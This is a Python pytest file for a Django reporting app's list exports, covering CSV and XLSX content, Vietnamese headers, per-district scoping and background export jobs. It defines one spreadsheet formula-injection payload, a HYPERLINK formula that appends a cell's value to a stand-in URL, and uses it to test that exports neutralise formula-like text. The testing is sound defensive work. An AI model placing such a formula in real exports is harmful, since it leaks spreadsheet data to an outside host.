"""List exports: read back, formula injection, scoping, background jobs and their pages."""
import pytest
from django.test import override_settings
from django.urls import reverse

from dvk.initiatives.enums import State

from .dash_helpers import body, plant_registration, read_csv, read_xlsx

pytestmark = pytest.mark.django_db

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


@pytest.fixture(autouse=True)
def media(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path


def test_registrations_xlsx_reads_back_with_vietnamese_headers(client_as):
    from dvk.initiatives.models import Registration

    r = client_as("tinh.thuky").get(reverse("reports:export_registrations"),
                                    {"phase": "2021-2025", "year": "2023", "format": "xlsx"})
    assert r.status_code == 200
    assert r["Content-Disposition"].startswith("attachment;")
    header, rows, ws = read_xlsx(body(r))
    assert header[:5] == ["Mã mô hình", "Tên mô hình", "Loại", "Chủ thể", "Mã đơn vị"]
    assert "Ngày gửi" in header and "Kết quả" in header
    expected = Registration.objects.filter(phase__code="2021-2025", year=2023)
    assert len(rows) == expected.count() > 0
    col = {h: i for i, h in enumerate(header)}
    assert {row[col["Năm"]] for row in rows} == {2023}
    assert {row[col["Kết quả"]] for row in rows} <= {"Công nhận", "Không công nhận"}
    date_cell = ws.cell(row=2, column=col["Ngày gửi"] + 1)
    assert date_cell.number_format == "dd/mm/yyyy" and date_cell.value.year == 2023


def test_csv_has_bom_dates_and_neutralised_formulas(client_as):
    reg = plant_registration("KG-GQ-01", phase_code="2026-2030", year=2026, title=EVIL,
                             subject="+84 912 345 678", state=State.SUBMITTED)
    from django.utils import timezone
    import datetime as dt

    reg.submitted_at = timezone.make_aware(dt.datetime(2026, 1, 5, 9, 30))
    reg.save()
    r = client_as("gq.thuky").get(reverse("reports:export_registrations"),
                                  {"phase": "2026-2030", "format": "csv"})
    assert r.status_code == 200 and r.streaming
    assert r["Content-Type"].startswith("text/csv")
    header, rows = read_csv(body(r))
    col = {h: i for i, h in enumerate(header)}
    mine = [row for row in rows if row[col["Tên mô hình"]].endswith("Bấm vào đây\")")]
    assert len(mine) == 1
    assert mine[0][col["Tên mô hình"]] == "'" + EVIL
    assert mine[0][col["Chủ thể"]] == "'+84 912 345 678"
    assert mine[0][col["Ngày gửi"]] == "05/01/2026"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_xlsx_stores_formula_like_text_as_text(client_as):
    plant_registration("KG-GQ-01", phase_code="2026-2030", year=2026, title=EVIL)
    r = client_as("gq.thuky").get(reverse("reports:export_registrations"),
                                  {"phase": "2026-2030", "format": "xlsx", "q": "hyperlink"})
    header, rows, ws = read_xlsx(body(r))
    assert len(rows) == 1
    cell = ws.cell(row=2, column=header.index("Tên mô hình") + 1)
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.value == EVIL


def test_exports_are_scoped(client_as):
    c = client_as("gq.thuky")
    r = c.get(reverse("reports:export_registrations"), {"phase": "2016-2020", "format": "csv"})
    header, rows = read_csv(body(r))
    codes = {row[header.index("Mã đơn vị")] for row in rows}
    assert codes and all(code.startswith("KG-GQ") for code in codes)
    units = read_csv(body(c.get(reverse("reports:export_units"), {"format": "csv"})))[1]
    assert units and all(row[0].startswith("KG-GQ") for row in units)
    assert units[0][:4] == ["KG-GQ", "Huyện Gò Quao", "KG", "Huyện"]
    awards = read_xlsx(body(c.get(reverse("reports:export_awards"),
                                  {"phase": "2016-2020", "format": "xlsx"})))
    assert awards[1] and all(row[4].startswith("KG-GQ") for row in awards[1])
    # Asking for another district's subtree: not found, or nothing.
    assert c.get(reverse("reports:export_awards"), {"unit": "KG-RG"}).status_code == 404
    assert c.get(reverse("reports:export_units"), {"unit": "KG-RG"}).status_code == 404
    rg = read_csv(body(c.get(reverse("reports:export_registrations"),
                             {"unit": "KG-RG", "format": "csv"})))[1]
    assert rg == []


@override_settings(TASKS=IMMEDIATE, DVK_EXPORT_SYNC_LIMIT=10)
def test_large_export_runs_as_a_job_with_progress_page(client_as, user):
    from dvk.common.models import BackgroundJob
    from dvk.initiatives.models import Registration

    c = client_as("tinh.thuky")
    r = c.get(reverse("reports:export_registrations"), {"phase": "2016-2020", "format": "xlsx"})
    assert r.status_code == 302
    job = BackgroundJob.objects.get(owner=user("tinh.thuky"))
    assert r["Location"] == reverse("reports:job", kwargs={"job_id": job.pk})
    assert job.status == "done" and job.percent == 100
    assert job.total == Registration.objects.filter(phase__code="2016-2020").count()
    page = c.get(r["Location"])
    html = page.content.decode()
    assert "100%" in html and 'max="100" value="100"' in html
    link = reverse("reports:job_download", kwargs={"job_id": job.pk})
    assert link in html
    assert "hx-trigger" not in html  # finished: no more polling
    download = c.get(link)
    assert download.status_code == 200
    header, rows, _ = read_xlsx(body(download))
    assert len(rows) == job.total
    # Someone else's job: not found, even for a user with a wider scope.
    for other in ("tinh.lanhdao", "gq.thuky"):
        assert client_as(other).get(r["Location"]).status_code == 404
        assert client_as(other).get(link).status_code == 404


def test_progress_partial_polls_while_running(client_as, user, unit):
    from dvk.common.models import BackgroundJob

    job = BackgroundJob.objects.create(kind="export", title="Danh sách", owner=user("gq.thuky"),
                                       unit=unit("KG-GQ"), status="running", done=250, total=1000)
    r = client_as("gq.thuky").get(reverse("reports:job", kwargs={"job_id": job.pk}),
                                  HTTP_HX_REQUEST="true")
    html = r.content.decode()
    assert "<html" not in html
    assert 'hx-trigger="every 1s"' in html and "25%" in html and "250" in html
    assert reverse("reports:job_download", kwargs={"job_id": job.pk}) not in html
    assert client_as("gq.thuky").get(
        reverse("reports:job_download", kwargs={"job_id": job.pk})).status_code == 404


@override_settings(TASKS=IMMEDIATE)
def test_async_flag_and_failed_job_message(client_as, user):
    from dvk.common.models import BackgroundJob
    from dvk.reports.exports import run_export_job

    c = client_as("gq.thuky")
    r = c.get(reverse("reports:export_units"), {"format": "csv", "async": "1"})
    job = BackgroundJob.objects.get(owner=user("gq.thuky"))
    assert r.status_code == 302 and job.status == "done"
    download = c.get(reverse("reports:job_download", kwargs={"job_id": job.pk}))
    header, rows = read_csv(body(download))
    assert header[0] == "Mã đơn vị" and all(row[0].startswith("KG-GQ") for row in rows)

    broken = BackgroundJob.objects.create(kind="export", owner=user("gq.thuky"),
                                          params={"export": "nothing", "format": "xlsx"})
    with pytest.raises(KeyError):
        run_export_job(broken)
    broken.refresh_from_db()
    assert broken.status == "failed"
    page = c.get(reverse("reports:job", kwargs={"job_id": broken.pk})).content.decode()
    assert 'role="alert"' in page and "Không xuất được danh sách" in page


def test_job_run_directly_updates_progress(client_as, user, unit):
    from dvk.common.models import BackgroundJob
    from dvk.reports.exports import run_export_job
    from dvk.orgs.scope import scope_for

    owner = user("tinh.thuky")
    job = BackgroundJob.objects.create(
        kind="export", owner=owner, unit=unit("KG"),
        params={"export": "registrations", "format": "csv", "query": "phase=2016-2020",
                "membership": scope_for(owner).membership.pk})
    run_export_job(job)
    job.refresh_from_db()
    assert job.status == "done" and job.done == job.total > 0 and job.finished_at
    assert job.result_name.endswith(".csv")
    with job.result_file.open("rb") as fh:
        header, rows = read_csv(fh.read())
    assert len(rows) == job.total


def test_reports_index_downloads_summary_and_appendix(client_as, unit):
    import io
    import json

    from dvk.phases.models import Phase
    from dvk.reports.summary import build_summary

    c = client_as("gq.thuky")
    page = c.get(reverse("reports:index"), {"phase": "2016-2020"})
    assert page.status_code == 200
    assert reverse("reports:download", kwargs={"kind": "appendix_xlsx"}) in page.content.decode()
    r = c.get(reverse("reports:download", kwargs={"kind": "summary_json"}), {"phase": "2016-2020"})
    assert r.status_code == 200
    assert json.loads(r.content) == json.loads(json.dumps(
        build_summary(Phase.objects.get(code="2016-2020"), unit("KG-GQ"))))
    x = c.get(reverse("reports:download", kwargs={"kind": "appendix_xlsx"}), {"phase": "2016-2020"})
    assert x.status_code == 200 and x.content[:2] == b"PK"
    from openpyxl import load_workbook

    load_workbook(io.BytesIO(x.content))  # a valid workbook
    assert c.get(reverse("reports:download", kwargs={"kind": "summary_json"}),
                 {"phase": "2016-2020", "unit": "KG-RG"}).status_code == 404
    assert client_as("dinhhoa.vanthu").get(
        reverse("reports:download", kwargs={"kind": "summary_json"})).status_code == 403


@override_settings(TASKS=IMMEDIATE)
def test_phase_report_is_prepared_as_a_job(client_as, user):
    from dvk.common.models import BackgroundJob

    c = client_as("gq.thuky")
    r = c.get(reverse("reports:download", kwargs={"kind": "phase_report_docx"}),
              {"phase": "2016-2020"})
    assert r.status_code == 302
    job = BackgroundJob.objects.get(owner=user("gq.thuky"), kind="report")
    assert job.status == "done", job.message
    d = c.get(reverse("reports:job_download", kwargs={"job_id": job.pk}))
    content = body(d)
    assert content[:2] == b"PK" and job.result_name.endswith(".docx")


def test_registration_export_cells_xlsx_and_csv(client_as):
    """Every column of the registrations export, cell by cell, in both formats: codes,
    labels, dates in Vietnam's time zone, the decision's date before the recorded one,
    blank sector, late/exceptional marks, formula-like text kept as text."""
    import datetime as dt

    from django.utils import timezone

    from dvk.initiatives.enums import InitiativeKind
    from dvk.initiatives.models import Decision
    from dvk.orgs.models import Sector

    aware = timezone.make_aware
    utc = dt.timezone.utc
    decided = plant_registration("KG-GQ-01", phase_code="2026-2030", year=2027, title=EVIL,
                                 subject="-Nguyễn Văn A", state=State.RECOGNIZED)
    ini = decided.initiative
    ini.kind, ini.code = InitiativeKind.INDIVIDUAL, "@GQ-0001"
    ini.save()
    decided.decision = Decision.objects.create(unit=decided.unit, phase=decided.phase,
                                               level=decided.level, number="12/QĐ-BCĐ",
                                               date=dt.date(2027, 3, 4))
    # 18:30 UTC is already the next day in Vietnam (UTC+7).
    decided.submitted_at = dt.datetime(2027, 1, 5, 18, 30, tzinfo=utc)
    decided.decided_at = aware(dt.datetime(2027, 3, 9, 8, 0))
    decided.sector = Sector.objects.order_by("order").last()
    decided.is_late, decided.is_exceptional = True, True
    decided.certificate_number = "=CN-7"
    decided.save()
    imported = plant_registration("KG-GQ-01", phase_code="2026-2030", year=2027,
                                  title="Soát xét không quyết định", subject="Chi hội",
                                  state=State.NOT_RECOGNIZED)
    imported.sector = None
    imported.decided_at = dt.datetime(2027, 6, 30, 17, 0, tzinfo=utc)  # 1/7 in Vietnam
    imported.save()
    draft = plant_registration("KG-GQ-01", phase_code="2026-2030", year=2027,
                               title="Soát xét bản nháp", subject="Tổ tự quản",
                               state=State.DRAFT)
    draft.sector = decided.sector
    draft.save()
    unit, field = decided.unit, decided.field
    sector = decided.sector.name
    code2, code3 = imported.initiative.code or "", draft.initiative.code or ""
    expected = [
        ["@GQ-0001", EVIL, "Điển hình", "-Nguyễn Văn A", "KG-GQ-01", unit.name, sector,
         field.name, "2026-2030", decided.level.name, 2027, "Công nhận", "Công nhận", "x",
         "x", dt.date(2027, 1, 6), dt.date(2027, 3, 4), "12/QĐ-BCĐ", "=CN-7"],
        [code2, "Soát xét không quyết định", "Mô hình", "Chi hội", "KG-GQ-01", unit.name, "",
         field.name, "2026-2030", imported.level.name, 2027, "Không công nhận",
         "Không công nhận", "", "", None, dt.date(2027, 7, 1), "", ""],
        [code3, "Soát xét bản nháp", "Mô hình", "Tổ tự quản", "KG-GQ-01", unit.name, sector,
         field.name, "2026-2030", draft.level.name, 2027, "Nháp", "", "", "", None, None, "",
         ""],
    ]
    titles = {row[1] for row in expected}
    c = client_as("gq.thuky")
    query = {"phase": "2026-2030", "year": "2027"}

    r = c.get(reverse("reports:export_registrations"), {**query, "format": "xlsx"})
    header, rows, ws = read_xlsx(body(r))
    assert len(header) == 19 and header[-1] == "Số giấy chứng nhận"
    got = [row for row in rows if row[1] in titles]
    as_xlsx = [[None if v == "" else (dt.datetime.combine(v, dt.time())
                                      if isinstance(v, dt.date) else v) for v in row]
               for row in expected]
    assert got == as_xlsx
    evil = next(i for i, row in enumerate(rows, start=2) if row[1] == EVIL)
    for col in (1, 2, 4, 19):  # code, title, subject, certificate: text, quote-prefixed
        cell = ws.cell(row=evil, column=col)
        assert cell.data_type == "s" and cell.quotePrefix, col

    r = c.get(reverse("reports:export_registrations"), {**query, "format": "csv"})
    header, rows = read_csv(body(r))
    got = [row for row in rows if row[1].lstrip("'") in titles]
    as_csv = [["'" + v if isinstance(v, str) and v[:1] in "=+-@" and v else
               (v.strftime("%d/%m/%Y") if isinstance(v, dt.date) else
                "" if v is None else str(v)) for v in row] for row in expected]
    assert got == as_csv
